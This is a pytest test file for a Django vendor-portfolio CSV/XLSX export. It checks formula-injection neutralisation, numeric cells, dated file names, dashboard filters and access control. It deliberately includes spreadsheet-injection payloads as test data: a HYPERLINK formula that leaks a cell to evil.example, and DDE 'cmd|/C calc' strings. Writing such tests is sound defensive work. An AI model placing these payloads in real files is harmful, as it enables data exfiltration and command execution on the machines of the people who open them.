"""Exports of the portfolio (and any list) as CSV and XLSX: formula injection neutralised, numbers kept as
numbers, dated file names, the dashboard's filters applied, internal users only."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from accounts.exports import Column, export_response
from kpis.models import Breach, BreachKind, BreachSeverity, Scorecard
from tests import factories
from vendors.models import VendorTier

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
CSV_URL = reverse("portal:portfolio_csv")
XLSX_URL = reverse("portal:portfolio_xlsx")


@pytest.fixture(autouse=True)
def _fixed_day():
    with time_machine.travel(timezone.make_aware(dt.datetime(2026, 6, 15, 9, 30)), tick=False):
        yield


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def hostile_vendor(manager):
    """A vendor whose name, owner and category are formulas, with a score and two open breaches."""
    owner = factories.InternalUserFactory(full_name="@SUM(1+1)*cmd|' /C calc'!A0")
    vendor = factories.VendorFactory(name=EVIL_NAME, internal_owner=owner, tier=VendorTier.CRITICAL)
    vendor.service_categories.add(factories.ServiceCategoryFactory(name="\t-2+3"))
    service_level = factories.ServiceLevelFactory(contract=factories.SOWFactory(vendor=vendor))
    for month in (3, 4):
        Breach.objects.create(
            service_level=service_level,
            period_start=dt.date(2026, month, 1),
            period_end=dt.date(2026, month, 28),
            kind=BreachKind.MISSED_TARGET,
            severity=BreachSeverity.HIGH,
            response_due_at=timezone.now(),
        )
    Scorecard.objects.create(
        vendor=vendor,
        period_start=dt.date(2026, 5, 1),
        period_end=dt.date(2026, 5, 31),
        score=Decimal("61.25"),
        rag="red",
    )
    return vendor


HEADER = [
    "Vendor",
    "Standing",
    "Score",
    "Scorecard month",
    "Trend",
    "Open breaches",
    "Tier",
    "Status",
    "Owner",
    "Service categories",
    "Active contracts",
    "Service levels",
]


def test_csv_neutralises_formulas(client_for, manager, hostile_vendor):
    response = client_for(manager).get(CSV_URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="portfolio-2026-06-15.csv"'
    header, row = read_csv(response)
    assert header == HEADER
    assert row[0] == "'" + EVIL_NAME
    assert row[8] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[9].startswith("'") and row[9].lstrip("'\t").startswith("-2+3")
    assert row[1:8] == ["Red", "61.25", "2026-05-01", "First period", "2", "Critical", "Active"]


def test_xlsx_neutralises_formulas_and_keeps_numbers(client_for, manager, hostile_vendor):
    response = client_for(manager).get(XLSX_URL)

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="portfolio-2026-06-15.xlsx"'
    sheet, (header, row) = read_xlsx(response)
    assert header == HEADER
    assert row[0] == "'" + EVIL_NAME
    assert sheet["A2"].data_type == "s"  # text, never a formula
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    assert row[8] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[2] == 61.25 and isinstance(row[2], float)
    assert row[5] == 2 and isinstance(row[5], int)
    assert row[3] == dt.datetime(2026, 5, 1)
    assert row[10:] == [2, 1]


def test_export_follows_the_dashboards_filters_and_sort_and_is_not_paged(client_for, manager):
    factories.VendorFactory.create_batch(30, tier=VendorTier.HIGH)
    factories.VendorFactory(name="Zeta critical", tier=VendorTier.CRITICAL)
    factories.VendorFactory(name="Alpha critical", tier=VendorTier.CRITICAL)
    client = client_for(manager)

    everything = read_csv(client.get(CSV_URL, {"page": "2"}))
    critical = read_csv(client.get(CSV_URL, {"tier": "critical", "sort": "-name"}))
    _sheet, high = read_xlsx(client.get(XLSX_URL, {"tier": "high"}))

    assert len(everything) == 1 + 32
    assert [row[0] for row in critical[1:]] == ["Zeta critical", "Alpha critical"]
    assert len(high) == 1 + 30


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
def test_vendor_users_cannot_export_the_portfolio(client_for, vendor_a_user, vendor_b, url):
    response = client_for(vendor_a_user).get(url)

    assert response.status_code == 403
    assert vendor_b.name not in response.content.decode(errors="replace")


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
def test_anonymous_users_are_sent_to_log_in(client, url):
    response = client.get(url)

    assert response.status_code == 302 and reverse("accounts:login") in response.url


def test_viewers_may_export(client_for, viewer, vendor_a):
    rows = read_csv(client_for(viewer).get(CSV_URL))

    assert [row[0] for row in rows[1:]] == [vendor_a.name]


def test_export_is_get_only(client_for, manager):
    assert client_for(manager).post(CSV_URL).status_code == 405


@pytest.mark.parametrize("vendor_count", [3, 12])
def test_export_query_count_does_not_grow(client_for, manager, vendor_count, django_assert_num_queries):
    category = factories.ServiceCategoryFactory(name="Hosting")
    for vendor in factories.VendorFactory.create_batch(vendor_count, internal_owner=manager):
        vendor.service_categories.add(category)
        factories.ServiceLevelFactory(contract=factories.SOWFactory(vendor=vendor))
    client = client_for(manager)

    # 1 session, 2 user, 3 vendors with owners, standing and counts, 4 their categories
    with django_assert_num_queries(4):
        response = client.get(XLSX_URL)

    assert len(read_xlsx(response)[1]) == 1 + vendor_count


# --- The shared writer the export relies on -------------------------------------------------------------


ROWS = [
    {"text": "=1+2", "amount": Decimal("-12.50"), "count": -3, "day": dt.date(2026, 1, 31)},
    {"text": "+44 20 7946 0000", "amount": Decimal("0"), "count": 0, "day": None},
    {"text": "\r=cmd\x00|calc", "amount": Decimal("1.5"), "count": 7, "day": dt.date(2026, 2, 1)},
    {"text": "plain text, with a comma", "amount": None, "count": 1, "day": None},
]
COLUMNS = [
    Column("Text", lambda r: r["text"]),
    Column("Amount", lambda r: r["amount"]),
    Column("Count", lambda r: r["count"]),
    Column("Day", lambda r: r["day"]),
]


def test_export_response_csv():
    response = export_response(ROWS, COLUMNS, "breaches-2026-06-15", "csv")

    assert response["Content-Disposition"] == 'attachment; filename="breaches-2026-06-15.csv"'
    rows = read_csv(response)
    assert rows[0] == ["Text", "Amount", "Count", "Day"]
    texts = [row[0] for row in rows[1:]]
    assert texts[:2] == ["'=1+2", "'+44 20 7946 0000"] and texts[3] == "plain text, with a comma"
    # the line break stays inside the quoted cell, after the quote; the NUL is gone
    assert texts[2].startswith("'") and texts[2].endswith("=cmd|calc") and "\x00" not in texts[2]
    # real numbers are written as numbers, negative ones included
    assert rows[1][1:] == ["-12.50", "-3", "2026-01-31"]


def test_export_response_xlsx():
    response = export_response(ROWS, COLUMNS, "breaches-2026-06-15", "xlsx")

    _sheet, rows = read_xlsx(response)
    texts = [row[0] for row in rows[1:]]
    assert texts[:2] == ["'=1+2", "'+44 20 7946 0000"] and texts[3] == "plain text, with a comma"
    assert texts[2].startswith("'") and texts[2].endswith("=cmd|calc") and "\x00" not in texts[2]
    assert rows[1][1:] == [-12.5, -3, dt.datetime(2026, 1, 31)]
    assert rows[2][1:3] == [0, 0]


def test_export_response_refuses_other_formats():
    with pytest.raises(ValueError, match="Unknown export format"):
        export_response(ROWS, COLUMNS, "x", "html")
